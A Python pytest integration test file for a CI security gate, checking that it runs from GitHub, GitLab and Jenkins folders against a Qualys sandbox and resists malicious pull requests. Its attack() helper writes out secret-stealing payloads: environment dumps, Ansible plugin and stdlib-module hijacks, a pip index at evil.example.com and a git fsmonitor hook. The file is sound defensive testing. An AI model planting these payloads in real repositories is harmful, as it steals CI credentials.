# Copyright: appsec.perimeter contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""The folders of ``docs/ci``, each copied into an empty repository: its own commands, against the sandbox.

Each run of the gate costs seconds, so that one repository answers several questions, one after the other.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.integration.ci_machine import Job, Machine
from tests.integration.conftest import login_to
from tests.sandbox import Sandbox
from tests.tools.ci_definitions import FILES, FOLDER

CANARY = "Cnry-ci+pass/w0rd="
TOKEN = "Cnry-git-token"
THEFT = """
import os, pathlib
with open({stolen!r}, "a") as file:
    file.write(__file__ + repr(dict(os.environ)))
"""
LENIENT = "schema: 1\nmissing_baseline: adopt\nlimits: {new: {vulnerability: {critical: 1000}}}\n"
WAIVE_ALL = """
schema: 1
waivers:
  - {id: W1, match: {severities: [critical, high, medium, low, info]}, type: mitigated, owner: m, reason: m, ticket: m,
     created: "2026-01-01", expires: "2099-01-01"}
"""


class Shop:
    """One application in the sandbox, and a machine whose jobs judge it."""

    def __init__(self, folder: Path, system: str, sandbox: Sandbox) -> None:
        self.sandbox = sandbox
        self.app = min(sandbox.qualys.webapps.ids)
        settings = {
            "QUALYS_WAS_PLATFORM": "eu1",
            "QUALYS_WAS_USERNAME": sandbox.username,
            "QUALYS_WAS_PASSWORD": sandbox.password,
            "PERIMETER_GATE_WEBAPPS": json.dumps([str(self.app)]),
            "token": TOKEN,
        }
        leads = {"QUALYS_WAS_URL": login_to(sandbox)["QUALYS_WAS_URL"], "PERIMETER_SCAN_POLL_INTERVAL": "0.2s"}
        leads |= {"ANSIBLE_PIPELINING": "true"}
        self.machine = Machine(folder, system, leads, settings)

    def worsen(self) -> None:
        """The next scan finds something critical."""
        with self.sandbox.qualys.lock:
            findings = self.sandbox.qualys.findings
            item = next(item for item in findings.values() if item["webApp"]["id"] == self.app)
            new = dict(item) | {"id": max(findings.ids) + 1, "uniqueId": "11111111-2222-4333-8444-555555555555"}
            new |= {
                "severity": "5",
                "status": "NEW",
                "type": "VULNERABILITY",
                "isIgnored": "false",
                "url": "https://x.test/new",
            }
            findings[new["id"]] = new


@pytest.fixture
def shop(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Shop]:
    """A shop whose jobs the system of the test's parameter runs."""
    with Sandbox(webapps=3, findings=30, password=CANARY) as sandbox:
        sandbox.switches["clock"] = "real"
        profile = {"id": min(sandbox.qualys.option_profiles.ids)}
        for key in sandbox.qualys.webapps.ids:
            sandbox.qualys.webapps[key]["defaultProfile"] = profile
        sandbox.qualys.next_scan_outcome(*[{"outcome": "finished", "new": 0}] * 9)
        yield Shop(tmp_path, request.param, sandbox)
        assert sandbox.counters.snapshot()["internal_errors"] == 0


def attack(folder: Path, stolen: Path) -> Path:
    """Everything that a pull request may bring along in the hope that it is obeyed."""
    theft = THEFT.format(stolen=str(stolen))
    program = f"#!/bin/sh\nenv >> '{stolen}'\nexit 0\n"
    callback = (
        theft + "from ansible.plugins.callback import CallbackBase\nclass CallbackModule(CallbackBase):\n    pass\n"
    )
    always_pass = json.dumps({"record": "gate", "schema": 1, "verdict": "pass", "exit_code": 0, "run_id": "x"})
    settings = "[defaults]\ncallback_plugins=./plugins\nstdout_callback=thief\ncollections_path=./collections\n"
    files = {
        "ansible.cfg": settings,
        ".ansible.cfg": settings,
        "plugins/thief.py": callback,
        "callback_plugins/thief.py": callback,
        ".ansible/plugins/callback/thief.py": callback,
        "filter_plugins/thief.py": theft,
        "library/gate.py": theft,
        "collections/ansible_collections/appsec/perimeter/plugins/modules/gate.py": theft,
        "group_vars/all.yml": "gate_report_only: true\n",
        "sitecustomize.py": theft,
        "json.py": theft,
        "argparse.py": theft,
        "job.py": theft,
        "pip.conf": "[global]\nindex-url = https://evil.example.com/\n",
        ".config/pip/pip.conf": "[global]\nindex-url = https://evil.example.com/\n",
        ".gitconfig": f"[core]\n\tfsmonitor = {folder}/thief.sh\n\thooksPath = {folder}/hooks\n",
        "thief.sh": program,
        "hooks/post-index-change": program,
        "venv/bin/python": program,
        "venv/bin/ansible-playbook": program,
        ".gate-venv/bin/python3": program,
        "baseline.json": "{}",
        "inputs/baseline.json": "{}",
        "gate-baseline/baseline.json": "{}",
        "gate/gate.json": always_pass,
        "gate-report/gate.json": always_pass,
        "security/gate.yml": LENIENT,
        "security/waivers.yml": WAIVE_ALL,
    }
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        path.chmod(0o755)
    return folder


def baseline_of(shop: Shop) -> dict[str, Any]:
    """What the branch of the baseline holds."""
    content: dict[str, Any] = json.loads(shop.machine.git("show", "perimeter-baseline:baseline.json"))
    return content


def tell(job: Job) -> str:
    """What a failed assertion shows."""
    return f"code {job.code}\n{job.output}"


def pull_request(shop: Shop, tree: Path, main: str) -> None:
    """The pull request 7 with the files of a folder on top of the main branch."""
    for ref in ("refs/pull/7/head", "refs/pull/7/merge", "refs/merge-requests/7/head"):
        shop.machine.commit(ref, tree, parent=main)


@pytest.mark.parametrize("shop", list(FILES), indirect=True)
def test_the_copied_folder_judges_twice_and_obeys_no_pull_request(shop: Shop, tmp_path: Path) -> None:
    machine = shop.machine
    main = machine.commit("refs/heads/main", FOLDER / machine.system)

    first = machine.run()
    assert (first.code, first.verdict["verdict"]) == (0, "pass"), tell(first)
    assert "there is no branch perimeter-baseline, so there is no baseline yet" in first.notes
    assert f"policy and waivers are from commit {main[:12]} of main" in first.notes
    stored = baseline_of(shop)
    assert stored["run_id"] == first.verdict["run_id"]
    kept = {path.name for path in first.report.iterdir()}
    assert {"gate.json", "summary.md", "junit.xml"} <= kept
    assert not [name for name in kept if name.startswith(("findings", "report")) or "explain" in name]

    commit = machine.git("rev-parse", "perimeter-baseline")
    second = machine.run()
    assert second.code == 0, tell(second)
    assert f"the baseline is from commit {commit[:12]} of perimeter-baseline" in second.notes
    judged_by: Any = second.verdict
    assert (judged_by["baseline"]["exists"], judged_by["applications"][0]["in_baseline"]) == (True, True)
    assert all(len(judged_by[name]["sha256"]) == 64 for name in ("policy", "waivers_file", "baseline"))

    commit = machine.git("rev-parse", "perimeter-baseline")

    # From here on there is something new and critical, and a pull request that does what it can to get past it.
    shop.worsen()
    stolen = tmp_path / "stolen"
    tree = attack(tmp_path / "attack", stolen)
    pull_request(shop, tree, main)
    attack(machine.workspace, stolen)
    # What reaches ansible-playbook is the same in each system, as the notes below show.
    third = machine.run(number=7, whole=machine.system == "github")
    assert (third.code, third.verdict["verdict"]) == (10, "fail"), tell(third)
    assert not stolen.exists(), stolen.read_text(encoding="utf-8")
    differ = [note for note in third.notes if "not in force until merged" in note]
    assert [note.split()[0] for note in differ] == ["security/gate.yml", "security/waivers.yml"]
    assert machine.git("rev-parse", "perimeter-baseline") == commit
    for job in (first, second, third):
        assert not [secret for secret in (CANARY, TOKEN) if secret in job.output + json.dumps(job.verdict)]
    for _arguments, folder, listed, variables in machine.noted("playbook"):
        assert listed == []
        assert str(machine.workspace) not in json.dumps([folder, variables])
        assert isinstance(variables, dict)
        assert (variables["PYTHONSAFEPATH"], variables["PYTHONNOUSERSITE"]) == ("1", "1")
        assert not [name for name in variables if name.startswith(("PERIMETER_JOB", "PIP_", "PYTHONPATH", "GIT"))]


@pytest.mark.parametrize("shop", ["gitlab"], indirect=True)
def test_before_it_is_merged_nothing_is_scanned_and_the_pull_request_is_told(shop: Shop, tmp_path: Path) -> None:
    machine = shop.machine
    (tmp_path / "empty").mkdir()
    main = machine.commit("refs/heads/main", tmp_path / "empty")
    pull_request(shop, FOLDER / machine.system, main)
    job = machine.run(number=7)
    assert job.code == 11, tell(job)
    assert "not installed yet: merge this first" in job.output
    assert "not installed yet: merge this first" in (job.report / "summary.md").read_text(encoding="utf-8")
    assert job.verdict["exit_code"] == 11
    assert machine.run().code == 12
    assert shop.sandbox.counters.requests == 0


@pytest.mark.parametrize("shop", ["jenkins"], indirect=True)
def test_a_baseline_that_another_job_moved_is_judged_by_and_not_overwritten(shop: Shop, tmp_path: Path) -> None:
    machine = shop.machine
    # A policy of the first day, without a file of waivers.
    files = tmp_path / "files" / "security"
    files.mkdir(parents=True)
    (files / "gate.yml").write_text((FOLDER / "github/security/gate.yml").read_text(encoding="utf-8"), encoding="utf-8")
    machine.commit("refs/heads/main", files.parent)
    other = tmp_path / "other"
    other.mkdir()
    content = {
        "record": "baseline",
        "schema": 1,
        "written": "2026-01-01T00:00:00Z",
        "run_id": "other",
        "applications": [],
    }
    content["policy"] = {"name": None, "sha256": "0" * 64}
    (other / "baseline.json").write_text(json.dumps(content), encoding="utf-8")
    # While this run judges, another one stores its baseline: between the fetch and the push.
    moved = machine.folder / "move.sh"
    hook = machine.remote / "hooks" / "pre-receive"
    other_commit = machine.commit("refs/heads/other", other)
    moved.write_text(
        f"git update-ref refs/heads/perimeter-baseline {other_commit}\nrm '{hook}'\nexit 1\n", encoding="utf-8"
    )
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\nunset GIT_QUARANTINE_PATH\nsh '{moved}'\n", encoding="utf-8")
    hook.chmod(0o755)
    job = machine.run()
    assert job.code == 0, tell(job)
    assert "Another job updated the baseline" in job.output
    assert "main has no security/waivers.yml, so no waiver is in force" in job.notes
    assert machine.git("rev-list", "--count", "perimeter-baseline") == "2"
    assert machine.git("rev-parse", "perimeter-baseline^") == other_commit
    assert baseline_of(shop)["applications"]
    assert job.output.count("TASK [Scan, applications: 1]") == 1, "nothing is scanned a second time"
    # The reports of the second verdict say how the rules are fixed, as those of the first did.
    assert "Solution:" in (job.report / "junit.xml").read_text(encoding="utf-8")
    assert "The knowledge base could not be read" not in (job.report / "summary.md").read_text(encoding="utf-8")
